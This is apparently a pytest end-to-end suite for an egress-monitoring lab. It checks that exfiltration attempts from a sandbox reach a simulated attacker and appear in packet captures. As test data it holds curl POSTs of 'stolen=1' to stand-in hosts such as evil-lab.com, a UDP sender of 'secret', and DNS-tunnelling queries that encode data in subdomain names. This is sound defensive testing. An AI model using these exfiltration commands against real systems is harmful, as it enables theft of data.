"""That an attack which gets through is seen, by the attacker and on the wire."""

from __future__ import annotations

import sys

import pytest

from egressd.lab import Lab

pytestmark = pytest.mark.e2e

UDP = """
import socket, sys
address, port = sys.argv[1], int(sys.argv[2])
s = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5); s.connect((address, port)); s.send(b"secret"); print(s.recv(2000))
"""


@pytest.mark.parametrize("address", ["11.6.6.6", "2600:6:6::6", "8.8.8.8"])
@pytest.mark.parametrize("port", [443, 53, 123, 40000])
def test_a_datagram_to_any_port_arrives_and_is_answered(lab: Lab, address: str, port: int) -> None:
    done = lab.open_exec([sys.executable, "-I", "-c", UDP, address, str(port)])
    assert "owned" in done.stdout, done.stderr
    (hit,) = lab.attacker_hits("udp")
    assert (hit.address, hit.port, hit.data) == (address, port, "secret")
    (flow,) = lab.packets("open", address, "udp", port)
    assert flow.packets == 1


@pytest.mark.parametrize(
    "url",
    [
        "https://evil-lab.com/",
        "https://x.y.evil-lab.com:8443/",
        "http://11.6.6.6/",
        "http://11.6.6.6:31337/",
        "https://[2600:6:6::6]:853/",
        "http://11.6.6.6:22/",
    ],
)
def test_a_connection_to_any_port_arrives_and_is_answered(lab: Lab, url: str) -> None:
    done = lab.open_exec(["curl", "-sS", "--max-time", "10", "-d", "stolen=1", url])
    assert done.stdout == "owned\n", done.stderr
    (hit,) = lab.attacker_hits("tcp")
    assert hit.data.endswith("stolen=1")
    (flow,) = lab.packets("open", hit.address, "tcp", hit.port)
    assert flow.openings == 1


def test_a_connection_that_says_nothing_is_a_hit_as_well(lab: Lab) -> None:
    script = "import socket; socket.create_connection(('11.6.6.6', 7), 5).close()"
    assert lab.open_exec([sys.executable, "-I", "-c", script]).returncode == 0
    (hit,) = lab.attacker_hits(port=7)
    assert (hit.protocol, hit.data) == ("tcp", "")


@pytest.mark.parametrize(("address", "protocol"), [("11.6.6.6", "icmp"), ("2600:6:6::6", "icmp6")])
def test_a_ping_arrives_and_is_answered(lab: Lab, address: str, protocol: str) -> None:
    assert lab.open_exec(["ping", "-c", "2", "-i", "0.2", "-W", "2", address]).returncode == 0
    assert [hit.address for hit in lab.attacker_hits(protocol)] == [address, address]
    (flow,) = lab.packets("open", address, protocol)
    assert flow.packets == 2


@pytest.mark.parametrize("transport", ["+notcp", "+tcp"])
def test_a_query_to_another_server_tells_the_attacker_its_name(lab: Lab, transport: str) -> None:
    done = lab.open_exec(["dig", transport, "+short", "+tries=1", "c2VjcmV0.evil-lab.com", "@8.8.8.8"])
    assert done.stdout == "11.6.6.6\n"
    (hit,) = lab.attacker_hits(port=53)
    assert "c2VjcmV0" in hit.data
    assert lab.dns_queries() == []


def test_a_query_through_the_labs_server_leaks_by_its_name(lab: Lab) -> None:
    lab.open_exec(["dig", "+short", "+tries=1", "c2VjcmV0.evil-lab.com"])
    assert [query.type for query in lab.dns_queries("c2vjcmv0.evil-lab.com")] == ["A"]


def test_nothing_sent_is_nothing_captured(lab: Lab) -> None:
    lab.open_exec(["curl", "-sS", "https://pypi.org/n"])
    assert lab.attacker_hits() == []
    assert lab.packets(None, "11.6.6.6") == []
    # The kernel's own multicast reports (MLDv2, type 143) come when they like.
    assert [flow for flow in lab.packets("host") if (flow.protocol, flow.port) != ("icmp6", 143)] == []
    assert lab.packets("open", "11.0.0.11", "tcp", 443)[0].openings == 1
    assert lab.packets_lost() == 0


def test_host_and_open_are_told_apart_and_do_not_reach_each_other(lab: Lab) -> None:
    lab.host_exec(["ping", "-c", "1", "-W", "1", "11.6.6.6"])
    assert [flow.origin for flow in lab.packets(None, "11.6.6.6")] == ["host"]
    assert lab.open_exec(["ping", "-c", "1", "-W", "0.3", "11.0.0.2"]).returncode != 0


def test_a_bulk_transfer_loses_the_capture_no_packet(lab: Lab) -> None:
    upload = "head -c 60000000 /dev/zero | curl -sS -T - https://api.lab-origin.com/upload"
    assert lab.open_exec(["sh", "-c", upload]).returncode == 0
    assert lab.packets_lost() == 0
    assert sum(flow.bytes for flow in lab.packets("open", protocol="tcp", port=443)) > 60_000_000
